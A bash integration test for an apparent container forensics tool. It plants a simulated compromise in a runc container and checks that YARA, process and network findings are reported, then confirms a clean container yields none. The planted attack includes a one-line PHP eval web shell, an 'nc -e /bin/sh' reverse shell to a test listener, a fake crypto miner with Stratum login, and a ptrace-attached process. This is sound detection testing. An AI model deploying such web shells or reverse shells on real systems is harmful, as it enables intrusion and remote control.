#!/bin/bash
# t1106-compromise-yara: the planted compromise of issue 11, end to end on a
# real runc container, captured with its pcap running and analyzed against the
# fixture image. The container has a veth to the host; a second test netns
# (reached through the host) runs a mining pool on :3333 and a shell catcher
# on :4444. Planted, with the static programs of fixtures/src (never in the
# image):
#   - a fake miner run from /tmp (tmp/xmr): XMRig-like strings in its file,
#     logging in to the pool (a Stratum JSON-RPC line) again and again;
#   - a reverse shell: busybox sh with a socket to the catcher as stdin/stdout;
#   - a PHP web shell dropped in the web root (var/www/shell.php);
#   - the EICAR string only in the heap of a process (eicarheap builds it at
#     run time, never whole on disk; it tells its address);
#   - a process traced by another of the container (tracer PTRACE_ATTACHes);
#   - a loop looking up a mining pool's name (nobody answers: the question is
#     in the pcap).
# Asserted from report.json: YARA hits in the files (the web shell, the miner
# binary; none of EICAR on disk), in the core of the right pid at the address
# eicarheap told, inside its [heap] mapping, and in the pcap's stream to the
# pool (the login, its 5-tuple, direction and stream offset); the flow findings
# of the pool's port and name; proc.shell-socket-stdio, proc.exe-in-tmp, proc.traced.
# Then a clean container captured the same way: no finding at or above medium.
. "$(dirname "$0")/../lib/lib.sh"
. "$CONTAIN_TOP/tests/lib/containers.sh"
. "$CONTAIN_TOP/tests/lib/net.sh"
need_root
need_cmd runc jq ip nsenter python3 timeout
fixtures_ready || skip_all "no fixtures (run fixtures/build.sh)"
[ -x "$CONTAIN" ] || skip_all "no contain binary at $CONTAIN"
IMG=$CONTAIN_TOP/fixtures/cache/oci
PROGS=$CONTAIN_TOP/fixtures/cache/progs
[ -e "$IMG/index.json" ] || skip_all "no fixture OCI image (run fixtures/build.sh)"
for p in fakeminer eicarheap tracer; do
	[ -x "$PROGS/$p" ] || skip_all "no $PROGS/$p (run fixtures/build.sh)"
done
if ! "$CONTAIN" analyze --help 2>&1 | grep -q 'proc\.traced'; then
	in_ci && _t_bail "CI=true: contain analyze has proc.traced"
	skip_all "this contain has no proc.traced"
fi
S=$$
CTRIP=10.213.110.2 HOSTIP=10.213.110.1 NSHOST=10.213.111.1 POOL=10.213.111.2
HOSTIF=cyh$S NSIF=cyn$S TNS=t1106-$S
HOSTIF=${HOSTIF:0:12} NSIF=${NSIF:0:12}

# the pool and the shell catcher, in the test netns: what each received is
# logged (pool.log: the login lines; shell.log: what the shell answered)
cat >"$T_DIR/listen.py" <<'PY'
import socket, sys, threading, time
d = sys.argv[1]
def pool(c):
    f = c.makefile("rb")
    line = f.readline()
    with open(d + "/pool.log", "ab") as o:
        o.write(line)
    c.sendall(b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":'
              b'{"blob":"0707","job_id":"1","target":"b88d0600"},"status":"OK"}}\n')
    time.sleep(0.5)
    c.close()
def shell(c):
    c.sendall(b"echo contain-shell-$((6*7))\n")
    with open(d + "/shell.log", "ab") as o:
        while True:
            b = c.recv(4096)
            if not b:
                break
            o.write(b)
            o.flush()
def serve(port, fn):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port))
    s.listen(16)
    while True:
        c, _ = s.accept()
        threading.Thread(target=fn, args=(c,), daemon=True).start()
threading.Thread(target=serve, args=(3333, pool), daemon=True).start()
serve(4444, shell)
PY

# ---------------------------------------------------------------- A
section "A: the planted compromise"
A=t1106-$S-a
runc_run "$A" || skip_all "cannot start a runc container"
on_exit "\"$CONTAIN\" release $A >/dev/null 2>&1"
veth_attach "$CPID" "$HOSTIF" "$HOSTIP/30" "$CTRIP/30" || skip_all "cannot attach a veth"
testns_add "$TNS" "$NSIF" "$NSHOST/30" "$POOL/30" "$HOSTIF" || skip_all "cannot make the test netns"
ip netns exec "$TNS" python3 "$T_DIR/listen.py" "$T_DIR" >"$T_DIR/listen.err" 2>&1 &
LISTENER=$!
on_exit "kill $LISTENER 2>/dev/null"
wait_for 10 ip netns exec "$TNS" python3 -c "import socket; socket.create_connection(('127.0.0.1', 4444), 1)" ||
	skip_all "the test netns's listener did not start: $(cat "$T_DIR/listen.err")"

# the programs go in through the container (runc exec: the upper layer), as
# an intruder's download would
put() { runc_exec "$A" sh -c "cat >'$2' && chmod 0755 '$2'" <"$1"; }
put "$PROGS/fakeminer" /tmp/xmr
put "$PROGS/eicarheap" /usr/local/bin/eicarheap
put "$PROGS/tracer" /tmp/tracer
runc_exec "$A" sh -c 'mkdir -p /var/www && cat >/var/www/shell.php' <<'PHP'
<?php
// upload helper
@eval($_POST["cmd"]);
?>
PHP
runc_exec "$A" sh -c '
	(/tmp/xmr '"$POOL"' 3333 >/dev/null 2>&1 &)
	(nc '"$POOL"' 4444 -e /bin/sh >/dev/null 2>&1 &)
	(eicarheap --addr-file /tmp/.eicar.addr >/dev/null 2>&1 &)
	(/tmp/tracer /bin/sleep 100000 >/dev/null 2>&1 &)
	(while :; do nslookup xmr.pool.supportxmr.com '"$POOL"'; sleep 1; done >/dev/null 2>&1 &)
' </dev/null
ok "A: the miner logged in to the pool" wait_for 15 grep -q '"method":"login"' "$T_DIR/pool.log"
ok "A: the reverse shell answered the catcher" wait_for 15 grep -q 'contain-shell-42' "$T_DIR/shell.log"
ok "A: eicarheap told its heap address" wait_for 10 test -s "$CMERGED/tmp/.eicar.addr"
EADDR=$(cat "$CMERGED/tmp/.eicar.addr" 2>/dev/null)
ok "A: EICAR is nowhere on the container's disk" \
	sh -c "! grep -rqF 'EICAR-STANDARD-ANTIVIRUS' '$CUPPER' '$FIXTURE_ROOTFS'"
traced_sleep() { # the sleep whose TracerPid is the tracer
	local p
	for p in $(cat "$CCG2/cgroup.procs" 2>/dev/null); do
		[ "$(cat "/proc/$p/comm" 2>/dev/null)" = sleep ] || continue
		[ "$(awk '/^TracerPid:/ {print $2}' "/proc/$p/status" 2>/dev/null)" != 0 ] && return 0
	done
	return 1
}
ok "A: a process of the container is traced" wait_for 10 traced_sleep

BA=$T_DIR/bag-a
# 3 s observed before the cut: the miner logs in again meanwhile, in the pcap
run timeout 600 "$CONTAIN" capture "$A" -o "$BA" --observe 3 --pcap-seconds 1
is "$RC" 0 "A: capture (pcap, memory) exits 0"
[ "$RC" -eq 0 ] || diag "$OUT $ERR"
"$CONTAIN" release "$A" >/dev/null 2>&1
T=$BA/data/processes/tree.json
pid_of() { jq -r --arg c "$1" '[.pids[] | select(.comm == $c) | .pid][0] // empty' "$T" 2>/dev/null; }
MINER=$(pid_of xmr) EH=$(pid_of eicarheap) TRACER=$(pid_of tracer)
ok "A: the tree has the miner, eicarheap and the tracer" test -n "$MINER" -a -n "$EH" -a -n "$TRACER"
is "$(jq --argjson t "${TRACER:-0}" '[.pids[] | select(.comm == "sleep" and .tracer_pid == $t)] | length' "$T")" 1 \
	"A: tree.json: the traced sleep's tracer_pid is the tracer's pid"
ok "A: eicarheap's core is in the bag" test -s "$BA/data/memory/$EH.core"

RA=$T_DIR/rep-a
run timeout 600 "$CONTAIN" analyze "$BA" --image "$IMG" -o "$RA"
is "$RC" 1 "A: analyze exits 1 (findings at or above high)"
J=$RA/report.json
ok "A: report.json" test -s "$J"
# finding ID PATH: its severity
sev_of() { jq -r --arg i "$1" --arg p "$2" '[.findings[] | select(.id == $i and .path == $p)][0].severity // "none"' "$J" 2>/dev/null; }
has() { jq -e "$1" "$J" >/dev/null 2>&1; }

# the files
ok "A: YARA: the web shell in the web root (var/www/shell.php)" \
	has '[.findings[] | select(.id == "yara.webshell-php-request-exec" and .path == "var/www/shell.php" and .evidence.member == "data/fs/upper.tar")] | length == 1'
ok "A: YARA: the miner's binary (tmp/xmr): XMRig-like program" \
	has '[.findings[] | select(.id == "yara.miner-xmrig-binary" and .path == "tmp/xmr" and .evidence.member == "data/fs/upper.tar")] | length == 1'
ok "A: YARA: the miner's binary holds a stratum URL" \
	has '[.findings[] | select(.id == "yara.miner-stratum-url" and .path == "tmp/xmr")] | length == 1'
is "$(jq '[.findings[] | select(.id == "yara.eicar-test-string" and .evidence.member == "data/fs/upper.tar")] | length' "$J")" 0 \
	"A: no EICAR hit in the layer (it is in memory only)"

# the processes
is "$(sev_of proc.shell-socket-stdio bin/busybox)" critical "A: proc.shell-socket-stdio: the reverse shell"
ok "A: proc.shell-socket-stdio names the shell's stdin and stdout" \
	has '[.findings[] | select(.id == "proc.shell-socket-stdio") | .evidence.stdio_sockets[].fd] | (index(0) != null and index(1) != null)'
is "$(sev_of proc.exe-in-tmp tmp/xmr)" high "A: proc.exe-in-tmp: the miner runs from /tmp"
ok "A: proc.exe-in-tmp names the miner's pid" \
	jq -e --argjson p "${MINER:-0}" '[.findings[] | select(.id == "proc.exe-in-tmp" and .path == "tmp/xmr") | .evidence.pids[] | select(. == $p)] | length == 1' "$J"
is "$(sev_of proc.traced bin/busybox)" high "A: proc.traced: the sleep traced by a process of the container"
ok "A: proc.traced names the tracer" \
	jq -e --argjson t "${TRACER:-0}" '[.findings[] | select(.id == "proc.traced") | .evidence | select(.tracer_pid == $t and .tracer_in_container == true and .tracer_comm == "tracer")] | length == 1' "$J"
like "$(jq -r '[.findings[] | select(.id == "proc.traced")][0].detail' "$J")" "traced by pid $TRACER \\(tracer\\)" \
	"A: proc.traced: its detail names the tracer"

# the flows
ok "A: flow.mining-pool: the connections to the pool's port" \
	jq -e --arg d "$POOL:3333" '[.findings[] | select(.id == "flow.mining-pool" and .path == $d)] | length == 1' "$J"
is "$(sev_of flow.mining-pool xmr.pool.supportxmr.com)" high "A: flow.mining-pool: a pool's name looked up (high)"
like "$(jq -c '[.network.dns[].questions[].name]' "$J")" 'xmr\.pool\.supportxmr\.com' "A: network.dns: the pool's name"
ok "A: network.flows: container -> pool:3333" \
	jq -e --arg s "$CTRIP" --arg d "$POOL" '[.network.flows[] | select(.src == $s and .dst == $d and .dport == 3333)] | length >= 1' "$J"

report_schema_ok "A: report.json validates against docs/report-schema.json" "$J"
is "$(jq --argjson t "${TRACER:-0}" '[.processes[] | select(.comm == "sleep" and .tracer_pid == $t)] | length' "$J")" 1 \
	"A: report.json processes: the traced sleep's tracer_pid"

# memory and traffic: YARA over the cores and the streams
section "A: YARA in memory and traffic"
if ! "$CONTAIN" analyze --help 2>&1 | grep -q 'the cores, the streams'; then
	in_ci && _t_bail "CI=true: contain analyze scans cores and streams with YARA"
	section_skip "this contain's YARA does not scan cores and streams"
fi
EV='[.findings[] | select(.id == "yara.eicar-test-string" and .evidence.pid == $p)]'
ok "A: EICAR found in the core of eicarheap (pid $EH)" jq -e --argjson p "${EH:-0}" "$EV | length >= 1" "$J"
is "$(jq --argjson p "${EH:-0}" '[.findings[] | select(.id == "yara.eicar-test-string") | .evidence.pid] | unique | map(select(. != $p)) | length' "$J")" 0 \
	"A: EICAR in no other process"
is "$(jq -r --argjson p "${EH:-0}" "$EV[0].evidence.mapping" "$J")" "[heap]" "A: the EICAR hit's mapping is [heap]"
is "$(jq -r --argjson p "${EH:-0}" "$EV[0].evidence.member" "$J")" "data/memory/$EH.core" "A: the EICAR hit names the core"
is "$(jq -r --argjson p "${EH:-0}" "$EV[0].evidence.process_name" "$J")" eicarheap "A: the EICAR hit names the process"
GOT=$(jq -r --argjson p "${EH:-0}" "$EV[0].evidence.address" "$J")
is "$(printf '%d' "$GOT" 2>/dev/null)" "$(printf '%d' "$EADDR" 2>/dev/null)" \
	"A: the EICAR hit's address is the one eicarheap malloc'd ($EADDR)"
# inside [heap] of the maps the collector wrote
HEAP=$(awk '$6 == "[heap]" {print $1}' "$BA/data/memory/$EH.maps" 2>/dev/null | head -1)
ok "A: eicarheap's maps have a [heap] ($HEAP)" test -n "$HEAP"
inside() { # ADDR LO-HI (hex without 0x)
	python3 -c 'import sys; a = int(sys.argv[1], 0); lo, hi = (int(x, 16) for x in sys.argv[2].split("-")); sys.exit(0 if lo <= a < hi else 1)' "$1" "$2"
}
ok "A: the EICAR hit's address lies inside [heap] ($HEAP)" inside "$GOT" "$HEAP"
ok "A: the region in the evidence is the [heap] mapping" \
	jq -e --argjson p "${EH:-0}" --arg lo "$((16#${HEAP%-*}))" "$EV[0].evidence.region.start == (\$lo | tonumber)" "$J"

NV='[.findings[] | select(.id == "yara.miner-stratum-login" and .evidence.flow != null)]'
ok "A: the Stratum login found in the pcap's stream" jq -e "$NV | length >= 1" "$J"
ok "A: its flow: tcp $CTRIP -> $POOL:3333, to the server" \
	jq -e --arg s "$CTRIP" --arg d "$POOL" "$NV | map(.evidence | select(.flow.proto == \"tcp\" and .flow.src == \$s and .flow.dst == \$d and .flow.dport == 3333 and .direction == \"to_server\")) | length >= 1" "$J"
# the login line starts the client's stream: "method":"login" at its offset in it
WANT=$(grep -m1 -abo '"method":"login"' "$T_DIR/pool.log" | cut -d: -f1)
ok "A: the stream offset of the match is the offset of \"method\":\"login\" in the login line ($WANT)" \
	jq -e --argjson w "${WANT:-0}" "$NV | map(.evidence.strings[] | select(.id == \"\$login\") | .offset) | index(\$w) != null" "$J"
ok "A: the miner's memory hits the miner rules too" \
	jq -e --argjson p "${MINER:-0}" '[.findings[] | select((.id | startswith("yara.miner-")) and .evidence.pid == $p)] | length >= 1' "$J"

# ---------------------------------------------------------------- B
section "B: a clean container, captured the same way"
B=t1106-$S-b
runc_run "$B" || section_skip "cannot start a runc container"
on_exit "\"$CONTAIN\" release $B >/dev/null 2>&1"
BB=$T_DIR/bag-b
run timeout 600 "$CONTAIN" capture "$B" -o "$BB" --observe 1 --pcap-seconds 1
is "$RC" 0 "B: capture exits 0"
"$CONTAIN" release "$B" >/dev/null 2>&1
RB=$T_DIR/rep-b
run timeout 600 "$CONTAIN" analyze "$BB" --image "$IMG" -o "$RB"
is "$RC" 0 "B: analyze of the clean container exits 0"
is "$(jq '[.findings[] | select(.severity == "critical" or .severity == "high" or .severity == "medium")] | length' "$RB/report.json" 2>/dev/null)" 0 \
	"B: no finding at or above medium"
[ "$RC" -eq 0 ] || diag "$(jq -c '.findings[] | select(.severity != "info" and .severity != "low") | [.id, .path, .detail]' "$RB/report.json" 2>/dev/null | head -5)"
ok "B: its cores were read" jq -e '(.analyses.cores | length) > 0' "$RB/report.json"

done_testing
